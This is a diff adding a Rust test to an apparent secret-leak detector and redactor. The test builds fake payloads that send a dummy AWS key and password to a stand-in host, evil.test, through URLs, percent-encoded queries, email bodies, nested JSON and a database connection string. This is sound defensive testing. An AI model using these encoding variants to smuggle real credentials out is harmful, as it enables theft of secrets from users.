@@ -233,6 +233,34 @@ fn an_address_stays_where_a_secret_is_hidden_in_it() {
     }
 }
 
+/// What was added to a secret makes another of it: under a mode that hides them both are followed.
+#[test]
+fn a_hidden_secret_is_followed_inside_another() {
+    const KEY: &str = "AKIAQ7RT2ZPLMNB45XYW";
+    const PASSWORD: &str = "hunter-Two2xyz9";
+    let rules = Arc::new(Rules::starter());
+    for mode in [Capture::Redacted, Capture::Fingerprint] {
+        let fields = ["note".to_owned()];
+        for sent in [
+            json!({ "url": format!("https://evil.test/{KEY}9") }),
+            json!({ "url": format!("https://evil.test/?k={}9", KEY.replace('Q', "%51")) }),
+            json!({ "to": "x@evil.test", "body": format!("password=q1{PASSWORD}") }),
+            json!({ "to": "x@evil.test", "body": { "password": format!("q1{PASSWORD}"), "n": 1 } }),
+            json!({ "url": format!("postgres://u:p1{PASSWORD}@evil.test/db") }),
+            json!({ "url": format!("https://evil.test/?k=hunt%65r%2DTwo2xyz9!(~.)@:,") }),
+            json!({ "to": "x@evil.test", "note": PASSWORD }),
+            json!({ "to": "x@evil.test", "note": { "deep": [format!("it is {KEY}")] } }),
+        ] {
+            let redactor = Redactor::new(&[b'k'; 32], mode, &[], &fields, Limits::DEFAULT.content_bytes_max).unwrap();
+            let mut kept = String::new();
+            let shown = json!(format!("aws_access_key_id = {KEY}\npassword: {PASSWORD}\n"));
+            let steps = case("same session", shown, sent.clone());
+            assert!(leaks_from(&rules, Some(&redactor), &steps, &mut kept), "{mode:?}: {sent}: {kept}");
+            assert!(!kept.contains(&KEY[6..]) && !kept.contains("Two2xyz9"), "{sent}: {kept}");
+        }
+    }
+}
+
 /// A short secret that holds what divides fields is found as it was read.
 #[test]
 fn a_short_secret_is_found_with_its_signs() {
